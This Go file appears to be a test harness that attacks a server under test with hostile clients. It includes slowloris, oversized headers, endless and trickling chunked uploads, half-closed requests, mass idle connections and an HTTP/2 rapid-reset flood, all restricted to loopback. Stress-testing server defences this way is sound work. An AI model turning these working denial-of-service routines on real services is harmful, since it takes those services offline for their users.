package admission

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/spillway-go/spillway/lab/contestant"
)

// target is the input of the hostile clients.
type target struct {
	Address string
	Idle    int // connections; 0: as many as files allow
}

// attackReport is what they did.
type attackReport struct {
	Open int               // connections at one time, at most
	Done map[string]uint64 // connections of each kind; of resets, streams
}

// kind is one kind of hostile client: so many of them make a connection, send first, and
// then again in steps or else wait for the end, which is when the server closes the
// connection or the attack ends. After a pause they begin anew.
type kind struct {
	name    string
	clients int
	pause   time.Duration
	first   string
	half    bool // the client's half is closed after that
	again   string
	every   time.Duration
}

const (
	request = "GET /work HTTP/1.1\r\nHost: h\r\n"
	upload  = "POST /upload HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n"
	resets  = "resets"
)

// kinds are bounded in what they send, some megabytes a second: the question is what
// the server holds, not how much the loopback interface carries.
var kinds = []kind{
	{name: "slowloris", clients: 200, pause: 100 * time.Millisecond, first: request, again: "X-A: b\r\n", every: time.Second},
	{name: "headers", clients: 8, pause: 250 * time.Millisecond, first: request + "X-Long: " + strings.Repeat("a", 1<<20) + "\r\n\r\n"},
	{name: "endless", clients: 10, pause: 100 * time.Millisecond, first: upload, again: "4000\r\n" + strings.Repeat("a", 0x4000) + "\r\n", every: 20 * time.Millisecond},
	{name: "trickle", clients: 10, pause: 100 * time.Millisecond, first: upload, again: "1\r\na\r\n", every: time.Second / 2},
	{name: "half_closed", clients: 20, pause: 50 * time.Millisecond, first: request + "\r\n", half: true},
	{name: "half_request", clients: 10, pause: 50 * time.Millisecond, first: "GET /work HTTP/1.1\r\nHos", half: true},
	{name: resets, clients: 2, pause: 100 * time.Millisecond},
}

// attackers is the role of the hostile clients. It is ready when the idle connections
// stand, and then says how many connections there are; the others begin.
func attackers(ctx context.Context, contestantJob *contestant.Job) (any, error) {
	var to target
	if err := contestantJob.Input(&to); err != nil {
		return nil, err
	}
	if host, _, err := net.SplitHostPort(to.Address); err != nil || !net.ParseIP(host).IsLoopback() {
		return nil, errors.New("hostile clients are for the loopback interface only")
	}
	idle := to.Idle
	if idle == 0 {
		idle = idleByFiles()
	}
	held, err := holdIdle(ctx, to.Address, idle)
	defer func() {
		for _, c := range held {
			c.Close()
		}
	}()
	if err != nil {
		return nil, err
	}
	report := attackReport{Open: len(held), Done: map[string]uint64{"idle": uint64(len(held))}}
	counts := make([]atomic.Uint64, len(kinds))
	var all sync.WaitGroup
	for i, k := range kinds {
		report.Open += k.clients
		for range k.clients {
			all.Go(func() { k.attack(ctx, to.Address, &counts[i]) })
		}
	}
	if err := contestantJob.Ready(report.Open); err != nil {
		return nil, err
	}
	all.Wait()
	for i, k := range kinds {
		report.Done[k.name] = counts[i].Load()
	}
	return report, nil
}

// mostIdle bounds the idle connections: they also need as many ports.
const mostIdle = 50_000

const dialTimeout = 5 * time.Second

// holdIdle makes n connections that have had one answer and stay open.
func holdIdle(ctx context.Context, address string, n int) ([]net.Conn, error) {
	held, errs := make([]net.Conn, n), make([]error, n)
	var dialling sync.WaitGroup
	var next atomic.Int64
	for range 32 {
		dialling.Go(func() {
			for i := int(next.Add(1)) - 1; i < n && ctx.Err() == nil; i = int(next.Add(1)) - 1 {
				if held[i], errs[i] = net.DialTimeout("tcp", address, dialTimeout); errs[i] == nil {
					errs[i] = oneAnswer(held[i])
				}
				if errs[i] != nil {
					return
				}
			}
		})
	}
	dialling.Wait()
	return slices.DeleteFunc(held, func(c net.Conn) bool { return c == nil }), errors.Join(errs...)
}

func oneAnswer(c net.Conn) error {
	if _, err := io.WriteString(c, "GET /livez HTTP/1.1\r\nHost: h\r\n\r\n"); err != nil {
		return err
	}
	_ = c.SetReadDeadline(time.Now().Add(dialTimeout))
	answer, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err == nil {
		_, err = io.Copy(io.Discard, answer.Body)
	}
	return err
}

func (k kind) attack(ctx context.Context, address string, count *atomic.Uint64) {
	for ctx.Err() == nil {
		if c, err := net.DialTimeout("tcp", address, dialTimeout); err == nil {
			forget := context.AfterFunc(ctx, func() { c.Close() })
			if k.name == resets {
				rapidResets(ctx, c, count)
			} else {
				count.Add(1)
				k.strike(ctx, c)
			}
			forget()
			c.Close()
		}
		pause(ctx, k.pause)
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}

// strike returns when the connection is closed, by the server or at the end of ctx.
func (k kind) strike(ctx context.Context, c net.Conn) {
	_, err := io.WriteString(c, k.first)
	if tcp, ok := c.(*net.TCPConn); ok && k.half {
		_ = tcp.CloseWrite()
	}
	if k.again == "" {
		_, _ = io.Copy(io.Discard, c)
		return
	}
	for ; err == nil && ctx.Err() == nil; pause(ctx, k.every) {
		_, err = io.WriteString(c, k.again)
	}
}

// The parts of HTTP/2 that a rapid reset needs.
const (
	http2Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

	frameHeaders, frameReset, frameSettings = 1, 3, 4
	endOfStream, endOfHeaders               = 1, 4
	cancelled                               = 8
)

func frame(to []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	to = append(to, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	return append(binary.BigEndian.AppendUint32(to, stream), payload...)
}

// resetBurst is how many streams are opened and cancelled every 10 ms.
const resetBurst = 10

// rapidResets opens streams and cancels each at once: the client is done with it, and
// the server has begun.
func rapidResets(ctx context.Context, c net.Conn, count *atomic.Uint64) {
	go func() { _, _ = io.Copy(io.Discard, c) }() // until the connection is closed
	// In HPACK: GET, http, and the path and the authority literally.
	asking := append([]byte{0x82, 0x86, 0x04, 5}, "/work"...)
	asking = append(asking, 0x01, 1, 'h')
	reset := binary.BigEndian.AppendUint32(nil, cancelled)
	out := frame([]byte(http2Preface), frameSettings, 0, 0, nil)
	for stream := uint32(1); ctx.Err() == nil; {
		for range resetBurst {
			out = frame(out, frameHeaders, endOfStream|endOfHeaders, stream, asking)
			out = frame(out, frameReset, 0, stream, reset)
			stream += 2
		}
		if _, err := c.Write(out); err != nil {
			return
		}
		count.Add(resetBurst)
		out = out[:0]
		pause(ctx, 10*time.Millisecond)
	}
}
